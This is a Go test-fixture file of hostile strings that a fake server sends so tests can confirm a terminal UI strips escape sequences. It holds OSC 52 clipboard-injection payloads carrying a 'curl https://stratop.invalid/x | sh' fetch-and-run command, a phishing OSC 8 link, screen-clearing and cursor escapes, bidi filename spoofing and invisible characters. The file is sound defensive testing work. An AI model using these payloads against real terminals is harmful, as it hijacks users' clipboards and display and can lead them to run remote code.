package hostile

import (
	"encoding/base64"
	"strings"
)

// Payload is one hostile string a server can send in any text field.
type Payload struct {
	// Name says in a failure message which attack leaked, e.g. "osc52-clipboard".
	Name string
	// Text is the string itself. It may hold invalid UTF-8 on purpose.
	Text string
}

// ClipboardText is what the OSC 52 payloads try to put in the clipboard; its
// base64 form (ClipboardBase64) appearing anywhere in an output stream means
// the clipboard write leaked.
const ClipboardText = "stratop-hostile: curl https://stratop.invalid/x | sh"

// ClipboardBase64 is ClipboardText as OSC 52 carries it.
var ClipboardBase64 = base64.StdEncoding.EncodeToString([]byte(ClipboardText))

// LinkTarget is the address the OSC 8 payload tries to plant behind text.
const LinkTarget = "https://stratop.invalid/phish"

// LongSize is the byte length of the long payloads: well beyond any column,
// pane or status line, to prove fields are cut and the work stays bounded.
const LongSize = 10 << 10

// Every payload starts with a few printable characters before its first
// control, so that a leaked sequence is preceded by text in the output
// stream: Leaks relies on that to tell it from the renderer's own cursor
// moves, which never follow text.

// Payloads are the attacks every string field of the hostile server carries,
// rotated so that each one leads some value of every field.
var Payloads = []Payload{
	{"osc52-clipboard", "clip\x1b]52;c;" + ClipboardBase64 + "\x07board"},
	{"osc52-clipboard-st", "cb\x1b]52;p;" + ClipboardBase64 + "\x1b\\st"},
	{"osc8-link", "link\x1b]8;;" + LinkTarget + "\x1b\\click me\x1b]8;;\x1b\\"},
	{"csi-clear-screen", "wipe\x1b[2Jwiped\x1b[3Jscroll"},
	{"csi-home-clear", "hc\x1b[H\x1b[2Jhome"},
	{"csi-cursor-moves", "mv\x1b[10Aup\x1b[10;10Hput\x1b[5Bdn\x1b[20Crt\x1b[3Dlf"},
	{"csi-device-query", "dq\x1b[6n\x1b[c\x1b[21t"},
	{"esc-reset", "rs\x1bcreset\x1b7save\x1b8"},
	{"cr-overprint", "safe-name\rEVIL-NAME"},
	{"bs-overprint", "amount 100\b\b\b999"},
	{"c1-csi-rune", "c1\u009b2Jafter\u009d52;c;" + ClipboardBase64 + "\u009c"},
	{"c1-raw-bytes", "raw\x9b2Jafter\x9d52;c;" + ClipboardBase64 + "\x9c"},
	{"bidi-override", "user\u202egnp.exe\u202c"},
	{"bidi-isolates", "iso\u2066\u2067\u2068x\u2069\u200e\u200f\u061c"},
	{"zero-width", "ze\u200bro\u200cwi\u200ddth\u2060\ufeffend"},
	{"invisible-fillers", "fill\u3164\u115f\u1160\uffa0\u034f\u2061\u2064\u180e\U000E0041\U000E007Fend"},
	{"selector-smuggling", "smug\u2764\ufe0f \U000E0100\U000E0101\U000E01EF\ufe01end"},
	{"newline-tab", "line1\nline2\tcol\u2028sep\u2029par\r\nend"},
	{"invalid-utf8", "bad\xff\xfe\xc3\x28\xed\xa0\x80\xf0\x28\x8c\xbcend"},
	{"bel-nul-del", "ctl\x07\x00\x7fend"},
	{"long-ascii", "long" + strings.Repeat("W", LongSize)},
	{"long-wide", "wide" + repeatTo("界🙂", LongSize)},
	{"long-escapes", "esc" + repeatTo("a\x1b]52;c;"+ClipboardBase64+"\x07\x1b[2J\u202e", LongSize)},
}

// PayloadNamed returns the payload called name, for tests that need one.
func PayloadNamed(name string) (Payload, bool) {
	for _, p := range Payloads {
		if p.Name == name {
			return p, true
		}
	}
	return Payload{}, false
}

// AllInOne is every short payload in one string, for fields shown in full
// (detail panes, error lines).
func AllInOne() string { return allInOne(Payloads) }

func allInOne(payloads []Payload) string {
	var b strings.Builder
	for _, p := range payloads {
		if len(p.Text) < 512 {
			b.WriteString(p.Text)
			b.WriteByte(' ')
		}
	}
	return b.String()
}

// repeatTo repeats s until the result holds at least n bytes.
func repeatTo(s string, n int) string {
	return strings.Repeat(s, (n+len(s)-1)/len(s))
}
